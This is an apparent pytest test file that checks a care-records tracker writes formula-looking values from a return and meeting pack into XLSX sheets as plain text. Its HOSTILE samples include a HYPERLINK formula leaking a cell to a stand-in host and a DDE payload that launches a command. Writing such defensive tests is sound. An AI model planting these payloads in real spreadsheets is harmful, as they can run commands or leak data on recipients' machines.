"""Formula injection: values from a return and pack that start like a formula reach the XLSX tracker as plain text."""

import re
import zipfile

import openpyxl
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from permanence_core.cli import cli
from permanence_core.tracker.xlsx import FORMULA_TRIGGERS

#: What a spreadsheet would run: formulas, a DDE payload, and the same behind a tab or carriage return.
HOSTILE = {
    "child": '=HYPERLINK("http://example.invalid/?leak="&A2,"open")',
    "meeting": "+M1",
    "action": "-1",
    "description": "=cmd|' /C calc'!A0",
    "owner": "@SUM(A1:A9)",
    "legal_status": "=2+5",
    "second_owner": "\t=1+1",
    "second_description": "-2+3",
}


def write_return(folder, values: dict[str, str]) -> None:
    """One child in care since January 2024 with an overdue action; another with a rejected episode row."""
    child = values["child"].replace('"', '""')
    (folder / "header.csv").write_text(
        f'CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n"{child}",1,01/01/2015,WBRI,,,\nC2,2,01/01/2016,WBRI,,,\n'
    )
    (folder / "episodes.csv").write_text(
        "CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE,HOME_POST,PL_POST,URN\n"
        f'"{child}",05/01/2024,S,C2,N1,U1,PR1,,,,,,\n'
        f'C2,05/01/2024,S,"{values["legal_status"]}",N1,U1,PR1,,,,,,\n'
    )
    pack = folder / "pack"
    pack.mkdir()
    rows = [
        ["meeting_id", "kind", "date", "children"],
        [values["meeting"], "ppm", "2024-02-01", values["child"]],
    ]
    (pack / "meetings.csv").write_text(_csv(rows))
    actions = [
        ["meeting_id", "action_id", "description", "owner", "due_date"],
        [values["meeting"], values["action"], values["description"], values["owner"], "2024-03-01"],
        [values["meeting"], "A2", values["second_description"], values["second_owner"], "2024-03-02"],
    ]
    (pack / "actions.csv").write_text(_csv(actions))


def _csv(rows: list[list[str]]) -> str:
    return "".join(",".join('"' + value.replace('"', '""') + '"' for value in row) + "\n" for row in rows)


def tracker_workbook(tmp_path, values: dict[str, str]):
    source = tmp_path / "return"
    source.mkdir()
    write_return(source, values)
    out = tmp_path / "tracker.xlsx"
    args = ["tracker", "--adapter", "ssda903", "--source", str(source), "--as-of", "2024-06-01", "--out", str(out)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    return out


def assert_no_formula(out) -> list:
    """No cell is a formula, to openpyxl or in the sheet XML; every formula-looking text is a string cell."""
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), f"{name} holds a formula element"
    book = openpyxl.load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert cell.quotePrefix, (cell.coordinate, cell.value)
    return cells


def test_formula_looking_values_from_the_return_and_pack_are_text_in_every_sheet(tmp_path):
    out = tracker_workbook(tmp_path, HOSTILE)
    cells = assert_no_formula(out)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    book = openpyxl.load_workbook(out)
    assert HOSTILE["child"] in [c.value for c in book["Tracker"]["A"]]
    actions = {(r[0], r[3], r[4], r[7]) for r in book["Overdue actions"].iter_rows(min_row=2, values_only=True)}
    assert (HOSTILE["child"], HOSTILE["action"], HOSTILE["owner"], HOSTILE["description"]) in actions
    # The pack reader trims values, so the tab goes and the formula behind it stays.
    assert (HOSTILE["child"], "A2", "=1+1", HOSTILE["second_description"]) in actions
    assert HOSTILE["meeting"] in texts
    rejected = list(book["Rejected"].iter_rows(min_row=2, values_only=True))
    assert ("episodes.csv", 3, None, "C2", "LS", HOSTILE["legal_status"]) in [row[:6] for row in rejected]


TEXT = st.text(st.characters(blacklist_categories=["Cs", "Cc"]), max_size=12)
TRIGGERED = st.tuples(st.sampled_from(["=", "+", "-", "@"]), TEXT).map("".join).map(str.strip)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(description=TRIGGERED, owner=TRIGGERED)
def test_any_formula_looking_action_reaches_the_workbook_as_the_same_text(tmp_path_factory, description, owner):
    out = tracker_workbook(tmp_path_factory.mktemp("xlsx"), dict(HOSTILE, description=description, owner=owner))
    assert_no_formula(out)
    rows = openpyxl.load_workbook(out)["Overdue actions"].iter_rows(min_row=2, values_only=True)
    assert (HOSTILE["action"], owner, description) in [(row[3], row[4], row[7]) for row in rows]
